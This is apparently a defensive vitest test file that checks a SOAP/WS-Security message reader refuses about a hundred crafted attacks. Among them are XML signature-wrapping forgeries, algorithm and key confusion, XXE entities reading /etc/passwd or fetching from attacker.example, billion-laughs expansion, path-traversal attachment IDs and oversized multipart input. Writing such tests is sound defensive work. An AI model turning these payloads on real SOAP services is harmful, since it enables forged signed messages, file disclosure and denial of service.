import { constants, createHmac, createSign, privateEncrypt } from 'node:crypto'
import { afterAll, describe, expect, test } from 'vitest'
import { canonicalize } from '#app/soap/canonical.ts'
import { readMessage } from '#app/soap/read-message.ts'
import { elementsOf, parseXml } from '#app/soap/xml-tree.ts'
import { isWithin } from './cpu-time.ts'
import {
  BOUNDARY,
  CITIZEN,
  DOCUMENT,
  EXCLUSIVE,
  type Order,
  publish,
  RELATED,
  related,
  SHA256,
  signed,
} from './request.ts'
import { rsa, Senders } from './sender.ts'

const senders = new Senders()
const sender = senders.make()
const stranger = senders.make({ name: 'somebody:else:app' })
const weak = senders.make({ key: rsa(1024) })
const elliptic = senders.make({ key: ['-algorithm', 'EC', '-pkeyopt', 'ec_paramgen_curve:P-256'] })
afterAll(() => senders.remove())

/** Hostile input is refused within this time (design: quality.md 1.9). */
const MOST_MS = 50

const now = new Date()
const judge = (body: Uint8Array, contentType = RELATED) => readMessage({ body, contentType, now })
const send = (order: Omit<Order, 'sender'> & Partial<Order> = {}) =>
  judge(related(signed({ sender, created: now, ...order })))

const inHeader = (extra: string) => (xml: string) =>
  xml.replace('<soapenv:Header>', `<soapenv:Header>${extra}`)
const bodyOf = (xml: string) => /<soapenv:Body[\s\S]*<\/soapenv:Body>/.exec(xml)?.[0] ?? ''
const FORGED = publish({ messageType: 'ForgedDocumentType' })
const forgedBody = (id: string) => `<soapenv:Body wsu:Id="${id}">${FORGED}</soapenv:Body>`
const DIGEST_METHOD = `<ds:DigestMethod Algorithm="${SHA256}"/>`
const swap = (from: string | RegExp, to: string) => (xml: string) => {
  const changed = xml.replace(from, to)
  if (changed === xml) throw new Error('the attack changed nothing')
  return changed
}
const extraReference = (
  uri: string,
  transforms = `<ds:Transforms><ds:Transform Algorithm="${EXCLUSIVE}"/></ds:Transforms>`,
) =>
  swap(
    '</ds:SignedInfo>',
    `<ds:Reference ${uri}>${transforms}${DIGEST_METHOD}<ds:DigestValue>AAAA</ds:DigestValue></ds:Reference></ds:SignedInfo>`,
  )
const transformOfBody = (transforms: string) =>
  swap(/(<ds:Reference URI="#Body"><ds:Transforms>)[\s\S]*?(<\/ds:Transforms>)/, `$1${transforms}$2`)

/** Signs what stands there with something other than RSA-SHA256, and says so. */
const signedBy = (algorithm: string, make: (info: string) => string) => (xml: string) => {
  const changed = xml.replace('xmldsig-more#rsa-sha256', algorithm.replace('http://www.w3.org/2001/04/', ''))
  const named = algorithm.startsWith('http://www.w3.org/2000/')
    ? xml.replace(/Algorithm="[^"]*rsa-sha256"/, `Algorithm="${algorithm}"`)
    : changed
  const security = elementsOf(elementsOf(parseXml(Buffer.from(named)))[0] ?? fail())[0] ?? fail()
  const info = elementsOf(elementsOf(security)[2] ?? fail())[0] ?? fail()
  return named.replace(/<ds:SignatureValue>[^<]*/, `<ds:SignatureValue>${make(canonicalize(info))}`)
}
const fail = (): never => {
  throw new Error('another structure')
}

/** Each breaks one rule and nothing else: without that rule it would be read. */
const ATTACKS: Readonly<Record<string, [rule: string, attack: () => ReturnType<typeof judge>]>> = {
  'wrapping: the signed body goes into a header, a forged one into its place': [
    'signature.otherReference',
    () =>
      send({
        after: (xml) =>
          inHeader(`<x:Wrapper xmlns:x="urn:x">${bodyOf(xml)}</x:Wrapper>`)(
            xml.replace(bodyOf(xml), forgedBody('Other')),
          ).replace('"Other"', '"Forged"'),
      }),
  ],
  'wrapping: both bodies carry the signed id': [
    'security.sameId',
    () =>
      send({
        after: (xml) =>
          inHeader(`<x:Wrapper xmlns:x="urn:x">${bodyOf(xml)}</x:Wrapper>`)(
            xml.replace(bodyOf(xml), forgedBody('Body')),
          ),
      }),
  ],
  'wrapping: the signed body inside the forged one': [
    'soap.body',
    () =>
      send({
        after: (xml) =>
          xml.replace(
            bodyOf(xml),
            forgedBody('Forged').replace('</soapenv:Body>', `${bodyOf(xml)}</soapenv:Body>`),
          ),
      }),
  ],
  'wrapping: two bodies, the forged one first': [
    'soap.envelope',
    () => send({ after: (xml) => xml.replace(bodyOf(xml), forgedBody('Forged') + bodyOf(xml)) }),
  ],
  'wrapping: two bodies, the forged one last': [
    'soap.envelope',
    () => send({ after: (xml) => xml.replace(bodyOf(xml), bodyOf(xml) + forgedBody('Forged')) }),
  ],
  'wrapping: the signed body in an Object of the signature': [
    'signature.form',
    () =>
      send({
        after: (xml) =>
          xml
            .replace('</ds:Signature>', `<ds:Object>${bodyOf(xml)}</ds:Object></ds:Signature>`)
            .replace(
              /<soapenv:Body wsu:Id="Body">(?![\s\S]*<soapenv:Body)[\s\S]*<\/soapenv:Body>/,
              forgedBody('Forged'),
            ),
      }),
  ],
  'wrapping: an element without namespace takes the id': [
    'security.sameId',
    () => send({ after: inHeader('<x:Decoy xmlns:x="urn:x" ID="Body"/>') }),
  ],
  'wrapping: xml:id takes the id': [
    'security.sameId',
    () => send({ after: inHeader('<x:Decoy xmlns:x="urn:x" xml:id="Body"/>') }),
  ],
  'wrapping: one element with two ids': [
    'security.sameId',
    () => send({ before: swap('<soapenv:Body wsu:Id="Body">', '<soapenv:Body wsu:Id="Body" Id="Second">') }),
  ],
  'wrapping: two requests in one body': ['soap.body', () => send({ body: publish() + FORGED })],
  'wrapping: a second timestamp': [
    'security.parts',
    () =>
      send({
        after: swap(
          '<wsu:Timestamp',
          '<wsu:Timestamp wsu:Id="Fresh"><wsu:Created>2026-01-01T00:00:00Z</wsu:Created></wsu:Timestamp><wsu:Timestamp',
        ),
      }),
  ],
  'wrapping: a second signature': [
    'security.parts',
    () =>
      send({
        after: (xml) =>
          xml.replace(
            '</ds:Signature>',
            `</ds:Signature>${/<ds:Signature [\s\S]*<\/ds:Signature>/.exec(xml)?.[0]}`,
          ),
      }),
  ],
  'wrapping: a second token': [
    'security.parts',
    () =>
      send({
        after: (xml) =>
          xml.replace(
            '<wsu:Timestamp',
            `${(/<wsse:BinarySecurityToken[\s\S]*<\/wsse:BinarySecurityToken>/.exec(xml)?.[0] ?? '').replace('"Token"', '"Token2"')}<wsu:Timestamp`,
          ),
      }),
  ],
  'wrapping: a second security header': [
    'security.parts',
    () =>
      send({
        after: (xml) =>
          inHeader(
            /<wsse:Security [\s\S]*<\/wsse:Security>/.exec(xml)?.[0].replace(/ wsu:Id="[^"]*"/g, '') ?? '',
          )(xml),
      }),
  ],
  'the security header in a second header': [
    'soap.envelope',
    () => send({ after: swap('<soapenv:Header>', '<soapenv:Header/><soapenv:Header>') }),
  ],
  'the body changed after signing': [
    'signature.digest',
    () => send({ after: swap('A title', 'Another title') }),
  ],
  'the timestamp changed after signing': [
    'signature.digest',
    () =>
      send({
        after: swap(/<wsu:Created>[^<]*/, `<wsu:Created>${new Date(now.getTime() - 1000).toISOString()}`),
      }),
  ],
  'the token changed after signing': [
    'signature.digest',
    () => send({ after: swap('wsu:Id="Token"', 'wsu:Id="Token" xml:lang="fr"') }),
  ],
  'a digest changed after signing': [
    'signature.digest',
    () => send({ after: swap(/(<ds:Reference URI="#Body">[\s\S]*?<ds:DigestValue>)./, '$1/') }),
  ],
  'SignedInfo changed after signing': [
    'signature.value',
    () => send({ after: swap('<ds:SignedInfo>', '<ds:SignedInfo xml:lang="fr">') }),
  ],
  'the token of somebody else put in and its digest made right': [
    'signature.value',
    () => send({ before: (xml) => xml.replaceAll(sender.token, stranger.token) }),
  ],
  'the body is not signed': [
    'signature.notCovered',
    () => send({ before: swap(/<ds:Reference URI="#Body">[\s\S]*?<\/ds:Reference>/, '') }),
  ],
  'the timestamp is not signed': [
    'signature.notCovered',
    () => send({ before: swap(/<ds:Reference URI="#Timestamp">[\s\S]*?<\/ds:Reference>/, '') }),
  ],
  'the token is not signed': [
    'signature.notCovered',
    () => send({ before: swap(/<ds:Reference URI="#Token">[\s\S]*?<\/ds:Reference>/, '') }),
  ],
  'the body is signed twice': [
    'signature.otherReference',
    () =>
      send({
        before: (xml) =>
          xml.replace(
            '</ds:SignedInfo>',
            `${/<ds:Reference URI="#Body">[\s\S]*?<\/ds:Reference>/.exec(xml)?.[0]}</ds:SignedInfo>`,
          ),
      }),
  ],
  'a reference to the web': [
    'signature.otherReference',
    () => send({ before: extraReference('URI="http://attacker.example/x"') }),
  ],
  'a reference to a file': [
    'signature.otherReference',
    () => send({ before: extraReference('URI="file:///etc/passwd"') }),
  ],
  'a reference to the whole document': [
    'signature.otherReference',
    () => send({ before: extraReference('URI=""') }),
  ],
  'a reference without a target': ['signature.otherReference', () => send({ before: extraReference('') })],
  'a reference by XPointer': [
    'signature.otherReference',
    () => send({ before: extraReference('URI="#xpointer(/)"') }),
  ],
  'a reference to an attachment': [
    'signature.otherReference',
    () => send({ before: extraReference('URI="cid:document@test"') }),
  ],
  'a reference to another header': [
    'signature.otherReference',
    () =>
      send({
        before: (xml) =>
          extraReference('URI="#Other"')(inHeader('<x:Other xmlns:x="urn:x" wsu:Id="Other"/>')(xml)),
      }),
  ],
  'an XSLT transform': [
    'signature.transform',
    () =>
      send({
        before: transformOfBody(
          '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/></ds:Transform>',
        ),
      }),
  ],
  'an XPath transform': [
    'signature.transform',
    () =>
      send({
        before: transformOfBody(
          '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>not(ancestor-or-self::t:Title)</ds:XPath></ds:Transform>',
        ),
      }),
  ],
  'an enveloped-signature transform beside the right one': [
    'signature.transform',
    () =>
      send({
        before: transformOfBody(
          `<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/><ds:Transform Algorithm="${EXCLUSIVE}"/>`,
        ),
      }),
  ],
  'a base64 transform': [
    'signature.transform',
    () =>
      send({
        before: transformOfBody('<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#base64"/>'),
      }),
  ],
  'canonicalization with comments': [
    'signature.transform',
    () => send({ before: transformOfBody(`<ds:Transform Algorithm="${EXCLUSIVE}WithComments"/>`) }),
  ],
  'the right transform twice': [
    'signature.transform',
    () => send({ before: transformOfBody(`<ds:Transform Algorithm="${EXCLUSIVE}"/>`.repeat(2)) }),
  ],
  'the old canonicalization of SignedInfo': [
    'signature.canonicalization',
    () =>
      send({
        before: swap(
          `<ds:CanonicalizationMethod Algorithm="${EXCLUSIVE}"/>`,
          '<ds:CanonicalizationMethod Algorithm="http://www.w3.org/TR/2001/REC-xml-c14n-20010315"/>',
        ),
      }),
  ],
  'HMAC with the certificate as its secret': [
    'signature.method',
    () =>
      send({
        after: signedBy('http://www.w3.org/2001/04/xmldsig-more#hmac-sha256', (info) =>
          createHmac('sha256', sender.certificate).update(info).digest('base64'),
        ),
      }),
  ],
  'HMAC shortened to nothing': [
    'signature.method',
    () =>
      send({
        before: swap(
          /<ds:SignatureMethod[^>]*rsa-sha256"\/>/,
          '<ds:SignatureMethod Algorithm="http://www.w3.org/2000/09/xmldsig#hmac-sha1"><ds:HMACOutputLength>0</ds:HMACOutputLength></ds:SignatureMethod>',
        ),
      }),
  ],
  'RSA-SHA1': [
    'signature.method',
    () =>
      send({
        after: signedBy('http://www.w3.org/2000/09/xmldsig#rsa-sha1', (info) =>
          createSign('sha1').update(info).sign(sender.key, 'base64'),
        ),
      }),
  ],
  'RSA-SHA256 that says so, and is RSA-SHA1': [
    'signature.value',
    () =>
      send({
        after: signedBy('http://www.w3.org/2001/04/xmldsig-more#rsa-sha256', (info) =>
          createSign('sha1').update(info).sign(sender.key, 'base64'),
        ),
      }),
  ],
  'a bare hash encrypted as a signature': [
    'signature.value',
    () =>
      send({
        after: signedBy('http://www.w3.org/2001/04/xmldsig-more#rsa-sha256', () =>
          privateEncrypt(
            { key: sender.key, padding: constants.RSA_PKCS1_PADDING },
            Buffer.alloc(32),
          ).toString('base64'),
        ),
      }),
  ],
  'no signature value': [
    'signature.value',
    () => send({ after: swap(/<ds:SignatureValue>[^<]*/, '<ds:SignatureValue>') }),
  ],
  'a second spelling of the signature': [
    'signature.value',
    () => send({ after: swap(/==<\/ds:SignatureValue>/, '=</ds:SignatureValue>') }),
  ],
  'SHA-1 digests': [
    'signature.digestMethod',
    () =>
      send({
        before: swap(DIGEST_METHOD, '<ds:DigestMethod Algorithm="http://www.w3.org/2000/09/xmldsig#sha1"/>'),
      }),
  ],
  'a comment in a digest': [
    'xml.commentInValue',
    () => send({ after: swap(/(<ds:DigestValue>.{6})/, '$1<!-- x -->') }),
  ],
  'a comment in the document type': [
    'xml.commentInValue',
    () => send({ after: swap('TestDocumentType', 'TestDocument<!-- -->Type') }),
  ],
  'the key in KeyInfo instead of the token': [
    'signature.keyInfo',
    () =>
      send({
        after: swap(
          /<ds:KeyInfo>[\s\S]*<\/ds:KeyInfo>/,
          `<ds:KeyInfo><ds:X509Data><ds:X509Certificate>${stranger.token}</ds:X509Certificate></ds:X509Data></ds:KeyInfo>`,
        ),
      }),
  ],
  'KeyInfo refers elsewhere': [
    'signature.keyInfo',
    () => send({ after: swap('<wsse:Reference URI="#Token"', '<wsse:Reference URI="#Body"') }),
  ],
  'KeyInfo fetched from the web': [
    'signature.keyInfo',
    () =>
      send({
        after: swap(/<wsse:Reference [^>]*>/, '<ds:RetrievalMethod URI="http://attacker.example/key"/>'),
      }),
  ],
  'a key of 1024 bits': ['token.key', () => send({ sender: weak })],
  'an elliptic key': [
    'token.key',
    () => judge(related(signed({ sender, created: now }).replaceAll(sender.token, elliptic.token))),
  ],
  'a chain in place of a certificate': [
    'token.kind',
    () => send({ before: swap('#X509v3"', '#X509PKIPathv1"') }),
  ],
  'bytes behind the certificate': [
    'token.unreadable',
    () =>
      send({
        before: (xml) =>
          xml.replaceAll(
            sender.token,
            Buffer.concat([Buffer.from(sender.token, 'base64'), Buffer.from([0])]).toString('base64'),
          ),
      }),
  ],
  'an old message': ['timestamp.old', () => send({ created: new Date(now.getTime() - 301_000) })],
  'a message that said it is over': [
    'timestamp.old',
    () => send({ created: new Date(now.getTime() - 61_000), lifetimeSeconds: 60 }),
  ],
  'a message of the future': ['timestamp.future', () => send({ created: new Date(now.getTime() + 61_000) })],
  'a message that lives for a day': ['timestamp.tooLong', () => send({ lifetimeSeconds: 86_400 })],
  'a timestamp without Created': [
    'timestamp.form',
    () => send({ before: swap(/<wsu:Created>[^<]*<\/wsu:Created>/, '') }),
  ],
  'a timestamp with an offset': [
    'timestamp.form',
    () => send({ before: swap(/Z<\/wsu:Created>/, '+00:00</wsu:Created>') }),
  ],
  'no security header': [
    'security.missing',
    () => send({ after: swap(/<wsse:Security [\s\S]*<\/wsse:Security>/, '') }),
  ],
  'no signature': [
    'security.parts',
    () => send({ after: swap(/<ds:Signature [\s\S]*<\/ds:Signature>/, '') }),
  ],
  'a user name token beside the signature': [
    'security.parts',
    () =>
      send({
        after: swap(
          '<wsu:Timestamp',
          '<wsse:UsernameToken><wsse:Username>x</wsse:Username></wsse:UsernameToken><wsu:Timestamp',
        ),
      }),
  ],
  'a header that must be understood': [
    'soap.mustUnderstand',
    () => send({ after: inHeader('<x:Other xmlns:x="urn:x" soapenv:mustUnderstand="1"/>') }),
  ],
  'a document type': [
    'xml.doctype',
    () => send({ after: swap('<soapenv:Envelope', '<!DOCTYPE Envelope><soapenv:Envelope') }),
  ],
  'entities that laugh a billion times': [
    'xml.doctype',
    () =>
      send({
        after: swap(
          '<soapenv:Envelope',
          `<!DOCTYPE x [<!ENTITY a "ha">${'bcdefghij'
            .split('')
            .map((name, at) => `<!ENTITY ${name} "${`&${'abcdefghi'[at]};`.repeat(10)}">`)
            .join('')}]><soapenv:Envelope`,
        ),
      }),
  ],
  'an external entity': [
    'xml.doctype',
    () =>
      send({
        after: swap(
          '<soapenv:Envelope',
          '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><soapenv:Envelope',
        ),
      }),
  ],
  'an external parameter entity': [
    'xml.doctype',
    () =>
      send({
        after: swap(
          '<soapenv:Envelope',
          '<!DOCTYPE x [<!ENTITY % e SYSTEM "http://attacker.example/x.dtd"> %e;]><soapenv:Envelope',
        ),
      }),
  ],
  'an entity nobody declared': ['xml.notWellFormed', () => send({ after: swap('A title', 'A &title;') })],
  'a processing instruction': [
    'xml.instruction',
    () => send({ after: swap('<soapenv:Header>', '<?php echo 1 ?><soapenv:Header>') }),
  ],
  'a style sheet to fetch': [
    'xml.instruction',
    () =>
      send({
        after: swap(
          '<soapenv:Envelope',
          '<?xml-stylesheet href="http://attacker.example/x.xsl"?><soapenv:Envelope',
        ),
      }),
  ],
  'elements five thousand deep': [
    'xml.tooDeep',
    () => send({ after: inHeader('<a>'.repeat(5_000) + '</a>'.repeat(5_000)) }),
  ],
  'ten thousand elements': ['xml.tooManyElements', () => send({ after: inHeader('<a/>'.repeat(10_000)) })],
  'a thousand attributes': [
    'xml.tooManyAttributes',
    () => send({ after: inHeader(`<a ${Array.from({ length: 1000 }, (_, n) => `a${n}=""`).join(' ')}/>`) }),
  ],
  'an attribute of 70 kB': [
    'xml.tooLarge',
    () => send({ after: inHeader(`<a a="${'x'.repeat(70_000)}"/>`) }),
  ],
  'the same attribute twice': ['xml.notWellFormed', () => send({ after: inHeader('<a b="" b=""/>') })],
  'the same attribute twice by two prefixes': [
    'xml.notWellFormed',
    () => send({ after: inHeader('<a xmlns:p="urn:x" xmlns:q="urn:x" p:b="" q:b=""/>') }),
  ],
  'a prefix nobody declared': ['xml.notWellFormed', () => send({ after: inHeader('<nobody:a/>') })],
  'text behind the document': ['xml.notWellFormed', () => send({ after: (xml) => `${xml}<a/>` })],
  'UTF-16': [
    'xml.encoding',
    () => judge(related(Buffer.from(`\ufeff${signed({ sender, created: now })}`, 'utf16le'))),
  ],
  'UTF-7': ['xml.encoding', () => send({ after: swap('encoding="UTF-8"', 'encoding="UTF-7"') })],
  'UTF-8 with a character in too many bytes': [
    'xml.encoding',
    () =>
      judge(
        related(Buffer.concat([Buffer.from(signed({ sender, created: now })), Buffer.from([0xc0, 0xbc])])),
      ),
  ],
  'XML 1.1': ['xml.encoding', () => send({ after: swap('version="1.0"', 'version="1.1"') })],
  'a character that is none': ['xml.notWellFormed', () => send({ after: swap('A title', 'A &#0; title') })],
  'another set of characters in the Content-Type': [
    'message.charset',
    () => judge(Buffer.from(signed({ sender, created: now })), 'text/xml; charset=utf-16'),
  ],
  'SOAP 1.2': [
    'soap.envelope',
    () =>
      send({
        after: (xml) =>
          xml.replaceAll(
            'http://schemas.xmlsoap.org/soap/envelope/',
            'http://www.w3.org/2003/05/soap-envelope',
          ),
      }),
  ],
  'an operation for internal use': [
    'soap.operation',
    () => send({ body: '<v1:GetEboxInfoRequest xmlns:v1="http://socialsecurity.be/eboxmessage/v1"/>' }),
  ],
  'the request in another namespace': [
    'soap.operation',
    () => send({ body: publish().replace('http://socialsecurity.be/eboxmessage/v1', 'urn:other') }),
  ],
}

describe('attacks', () => {
  test('the message on which they build is read', () => {
    expect(send()).toMatchObject({ proven: true, findings: [], operation: 'publishEboxMessage' })
  })

  test.each(Object.entries(ATTACKS))('%s', (_, [rule, attack]) => {
    const found = attack()
    expect(found.refused?.rule).toBe(rule)
    expect(found).not.toHaveProperty('publication')
    // Making and signing it is counted too.
    expect(isWithin(MOST_MS, attack)).toBe(true)
  })
})

const MULTIPART: Readonly<Record<string, [rule: string, attack: () => ReturnType<typeof judge>]>> = {
  'a thousand parts': [
    'message.tooManyParts',
    () =>
      judge(
        related(
          '<a/>',
          Array.from({ length: 1000 }, (_, n) => ({ id: `p${n}`, bytes: 'x' })),
        ),
      ),
  ],
  'parts in parts': [
    'message.partHeaders',
    () => judge(related('<a/>', [{ id: 'p', type: 'multipart/related; boundary=x', bytes: 'x' }])),
  ],
  'the last delimiter is missing': ['message.boundary', () => judge(related('<a/>').subarray(0, -8))],
  'no boundary': ['message.boundary', () => judge(related('<a/>'), 'multipart/related; type="text/xml"')],
  'a boundary of 10,000 characters': [
    'message.contentType',
    () => judge(related('<a/>'), `multipart/related; boundary="${'x'.repeat(10_000)}"`),
  ],
  'two boundaries': ['message.contentType', () => judge(related('<a/>'), `${RELATED}; boundary=other`)],
  'the same Content-ID twice': [
    'message.sameContentId',
    () =>
      judge(
        related('<a/>', [
          { id: 'p', bytes: 'x' },
          { id: 'p', bytes: 'y' },
        ]),
      ),
  ],
  'the Content-ID of the envelope again': [
    'message.sameContentId',
    () => judge(related('<a/>', [{ id: 'root@test', bytes: 'x' }])),
  ],
  'no Content-ID': ['message.partHeaders', () => judge(related('<a/>', [{ bytes: 'x' }]))],
  'headers without end': [
    'message.partHeaders',
    () => judge(related('<a/>', [{ id: 'p', headers: `X: ${'x'.repeat(5000)}\r\n`, bytes: 'x' }])),
  ],
  'a header twice': [
    'message.partHeaders',
    () => judge(related('<a/>', [{ id: 'p', headers: 'Content-ID: <q>\r\n', bytes: 'x' }])),
  ],
  'an encoding nobody needs': [
    'message.partEncoding',
    () => judge(related('<a/>', [{ id: 'p', headers: 'Content-Transfer-Encoding: x-gzip\r\n', bytes: 'x' }])),
  ],
  'a start that leads nowhere': [
    'message.noRoot',
    () => judge(related('<a/>'), RELATED.replace('root@test', 'nowhere')),
  ],
  'a start that leads to the document': [
    'message.noRoot',
    () => judge(related('<a/>'), RELATED.replace('root@test', 'document@test')),
  ],
  'XOP, which is not used': [
    'message.noRoot',
    () =>
      judge(
        Buffer.from(related('<a/>').toString('latin1').replace('text/xml', 'application/xop+xml'), 'latin1'),
      ),
  ],
  'an envelope of 70 kB': ['xml.tooLarge', () => judge(related(`<a>${'x'.repeat(70_000)}</a>`))],
  'an envelope of 70 kB without parts': [
    'xml.tooLarge',
    () => judge(Buffer.from(`<a>${'x'.repeat(70_000)}</a>`), 'text/xml'),
  ],
  nothing: ['message.empty', () => judge(Buffer.alloc(0))],
  JSON: ['message.contentType', () => judge(Buffer.from('{}'), 'application/json')],
}

describe('attacks on the parts', () => {
  test.each(Object.entries(MULTIPART))('%s', (_, [rule, attack]) => {
    expect(attack().refused?.rule).toBe(rule)
    expect(isWithin(MOST_MS, attack)).toBe(true)
  })

  test.each([
    ['of no attachment', 'cid:nowhere', 'attachment.missing'],
    ['that climbs out', 'cid:../../etc/passwd', 'attachment.missing'],
    ['that climbs out in disguise', 'cid:%2e%2e%2f%2e%2e%2fetc%2fpasswd', 'attachment.missing'],
    ['with a broken escape', 'cid:%', 'attachment.missing'],
    ['of the prototype', 'cid:__proto__', 'attachment.missing'],
    ['to the web', 'http://attacker.example/a.pdf', 'attachment.reference'],
    ['to a file', 'file:///etc/passwd', 'attachment.reference'],
    ['of the envelope itself', 'cid:root@test', 'attachment.missing'],
  ])('a reference %s', (_, content, rule) => {
    const { findings, refused } = send({ body: publish({ content }) })
    expect(refused).toBeUndefined()
    expect(findings.map((finding) => finding.rule)).toContain(rule)
  })

  test('a delimiter is one only at the beginning of a line', () => {
    const tricky = Buffer.concat([DOCUMENT, Buffer.from(`x--${BOUNDARY}--`)])
    const xml = signed({ sender, created: now, body: publish({ recipient: CITIZEN }) })
    expect(judge(related(xml, [{ id: 'document@test', bytes: tricky }]))).toMatchObject({
      proven: true,
      findings: [],
    })
  })
})
